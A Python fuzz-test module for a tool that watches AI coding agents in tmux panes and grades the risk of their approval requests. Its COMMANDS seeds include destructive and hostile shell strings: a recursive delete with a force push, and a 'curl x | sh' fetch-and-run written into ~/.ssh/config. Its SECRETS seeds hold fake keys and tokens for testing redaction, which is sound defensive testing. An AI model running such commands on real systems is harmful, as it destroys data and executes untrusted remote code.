"""What panes show: the emulator, the painter, tmux's answers, and every agent's rules on them."""

import random
import re
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from agent_status.agents.registry import Registry
from agent_status.detect.layout import Layout
from agent_status.detect.match import find_evidence
from agent_status.detect.pane import ObservedPane
from agent_status.features.badges.render import escape_text, measure_text
from agent_status.features.risk.loader import parse_tables
from agent_status.features.risk.policy import grade_ask, make_working_dir
from agent_status.features.risk.table_files import read_risk_files
from agent_status.model import NO_AGENT, Ask, Capture, Cursor, Process, Screen, State
from agent_status.protocol.explanation import render_found
from agent_status.recordings.redaction import Masker, Person
from agent_status.terminal import Terminal
from agent_status.terminal.asciicast import open_recording
from agent_status.terminal.width import measure
from agent_status.tmux.query import parse_tick
from tests.fuzz.draw import STREAMS, mangle, mangle_text
from tests.fuzz.target import Target
from tests.support.knowledge import KNOWLEDGE
from tests.support.panes import open_blank_pane
from tests.support.places import RECORDINGS

OBEYED = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
NO_ASSESSMENT = Path("/nonexistent")
FOLDER = RECORDINGS
SIZES = st.tuples(st.integers(-2, 60) | st.sampled_from([10**9]), st.integers(-2, 20))


@cache
def read_registry() -> Registry:
    """Return what the packaged rules know."""
    return KNOWLEDGE


def make_watch() -> ObservedPane:
    """Return a watch on a pane."""
    return open_blank_pane(read_registry(), 80, 24)


@cache
def read_bytes() -> tuple[bytes, ...]:
    """Return the beginning of what some real agents printed."""
    paths = sorted(FOLDER.glob("*/*.cast.gz"))[::40]
    return tuple(_read_output(path)[:6000] for path in paths)


def _read_output(path: Path) -> bytes:
    events = open_recording(path).read_events()
    return b"".join(one.data.encode("utf-8", "replace") for one in events if one.code == "o")


def check_screen(screen: Screen) -> None:
    """Fail unless the screen is one that a terminal could show."""
    assert 1 <= screen.width <= 1000
    assert 1 <= screen.height <= 1000
    assert len(screen.rows) == screen.height
    assert len(screen.title) < 1 << 17
    for row in screen.rows:
        assert all(0 <= span.start < span.end <= len(row.text) for span in row.spans)
        assert not set(row.text) & set(map(chr, (*range(32), 127)))
        if "\u200d" not in row.text:
            assert sum(max(0, measure(char)) for char in row.text) <= screen.width


def check_emulator(steps: list[Any]) -> None:
    """Any bytes, cut anywhere, any sizes in between, and captures painted over them."""
    terminal = Terminal(40, 10)
    for step in steps:
        if isinstance(step, bytes):
            chance = random.Random(len(step))  # noqa: S311
            while step:
                size = chance.choice((1, 2, 3, 50, 1000))
                terminal.feed(step[:size])
                step = step[size:]  # noqa: PLW2901
        elif isinstance(step, Capture):
            terminal.paint(step)
        else:
            terminal.resize(*step)
        check_screen(terminal.screen())
    assert len(terminal.notices) <= 8
    assert len(terminal.prompt_marks) <= 8


CAPTURES = st.builds(
    lambda size, lines, x, y, title: Capture(size[0], size[1], tuple(lines), Cursor(x, y), title),
    SIZES,
    st.lists(STREAMS.map(lambda data: data.decode("utf-8", "replace")), max_size=12),
    st.integers(0, 2000),
    st.integers(0, 2000),
    st.text(max_size=50),
)


def check_painter(captures: list[Capture]) -> None:
    """Captures of any size, one after the other."""
    terminal = Terminal(10, 3)
    for capture in captures:
        terminal.paint(capture)
        check_screen(terminal.screen())


NONCE = "f00d"
ROW = (
    f"{NONCE}:P%1 @1 $1 0 0 77 80 3 0 0 1 0 0 0 1 1 1 1000 0 1"
    f"{NONCE}1000 80 3 0{NONCE}s{NONCE}w{NONCE}claude{NONCE}t{NONCE}/x{NONCE}{NONCE}{NONCE}\n"
)
SCREENS = f"{NONCE}:C1\none\ntwo\nthree\n{NONCE}:S1\n1\n2\n3\n"
ANSWER = f"{ROW}{NONCE}:O{NONCE}on{NONCE}A\n{SCREENS}{NONCE}:E{NONCE}123\n"


def check_probe(text: str) -> None:
    """Anything in the place of tmux's answer to a tick."""
    tick = parse_tick(text, NONCE)
    for pane in tick.panes:
        assert pane.width >= 1
        assert pane.height >= 1
        for capture in (tick.captures.get(pane.id), tick.texts.get(pane.id)):
            assert capture is None or len(capture.lines) == pane.height


def check_watch(drawn: tuple[str, bytes, list[Any]]) -> None:
    """Any screen, looked at by the rules of any agent: a status, its reasons, in words too."""
    kind, seed, steps = drawn
    watch = make_watch()
    watch.processes = (Process(1, 0, "sh", "sh"),)
    watch.hint = kind
    at = 0.0
    for step in (seed, *steps):
        at += 1.0
        if isinstance(step, bytes):
            watch.feed(step)
        elif isinstance(step, Capture):
            watch.paint(step, at)
        else:
            watch.terminal.resize(step[0], step[1])
        status = watch.look(at).status
        assert status is not NO_AGENT
        text = render_found(watch.look(at), "%1", at)
        assert_inert(text.replace("\n", ""))


def check_generic(seed: bytes) -> None:
    """Any screen, found by itself: each agent's signatures, layout and rules."""
    terminal = Terminal(80, 24)
    terminal.feed(seed)
    for agent in (*read_registry().agents, read_registry().generic):
        for one in find_evidence(Layout(terminal.screen(), agent)):
            assert len(one.reason) <= 200
            assert len(one.excerpt) <= 200


def assert_inert(text: str) -> None:
    """Fail if a terminal would obey anything in `text`."""
    assert not OBEYED.search(text), OBEYED.findall(text)


@cache
def _read_stakes() -> Any:
    return parse_tables(read_risk_files(NO_ASSESSMENT).tables)[0]


def check_risk(drawn: tuple[str, str]) -> None:
    """Any command and any file at stake get a grade, and few reasons."""
    command, file = drawn
    ask = Ask(State.APPROVAL, "?", (), command, file)
    risk = grade_ask(ask, make_working_dir("/home/x/p", "/home/x/p", "/home/x"), _read_stakes())
    assert len(risk.reasons) <= 4
    assert all(len(one) <= 80 for one in risk.reasons)


def check_badge(drawn: tuple[str, int]) -> None:
    """Any text is inert in a status line and keeps to its width."""
    text, width = drawn
    shown = escape_text(text, width)
    assert_inert(shown)
    assert "#" not in shown.replace("##", "")
    assert measure_text(shown.replace("##", "#")) <= max(0, width)


def check_mask(drawn: tuple[list[str], int, str]) -> None:
    """Any rows are masked without one getting longer, and again without a change."""
    rows, width, name = drawn
    person = Person(name, f"/home/{name}", name)
    masked = Masker(person).mask_rows(rows, width)
    assert len(masked) == len(rows)
    Masker(person).mask("\n".join(rows))


COMMANDS = (
    "rm -rf build && git push --force origin main",
    "find . -name '*.py' -print0 | xargs -0 grep -n x | sort | head -20",
    "cat <<EOF | python3 - ; echo $(curl x | sh) > ~/.ssh/config\nEOF",
    "for i in *; do (cd $i; sudo -u x sh -c \"eval '$y'\"); done",
)
SECRETS = (
    "export API_KEY=sk-abcdefghijklmnopqrstuvwxyz0123456789 \x1b[1mBearer abc123abc123abc123",
    "https://user:password@host.example/?token=abc&sig=def \u4e2d\u6587 me@mail.example.org",
)
STEPS = st.one_of(STREAMS, SIZES, CAPTURES)
KINDS = sorted(rules.kind for rules in read_registry().agents)

TARGETS = (
    Target("emulator", st.lists(STEPS | mangle(read_bytes()), max_size=8), check_emulator, 120),
    Target("painter", st.lists(CAPTURES, max_size=4), check_painter, 80),
    Target("probe", mangle_text([ANSWER, ROW * 3]), check_probe, 200),
    Target(
        "agents",
        st.tuples(st.sampled_from(KINDS), mangle(read_bytes()), st.lists(STEPS, max_size=3)),
        check_watch,
        40,
    ),
    Target("screens", mangle(read_bytes()), check_generic, 15),
    Target("risk", st.tuples(mangle_text(COMMANDS), st.text(max_size=40)), check_risk, 100),
    Target("badges", st.tuples(mangle_text(COMMANDS), st.integers(-1, 80)), check_badge, 150),
    Target(
        "mask",
        st.tuples(st.lists(mangle_text(SECRETS), max_size=4), st.integers(0, 200), st.text()),
        check_mask,
        60,
    ),
)
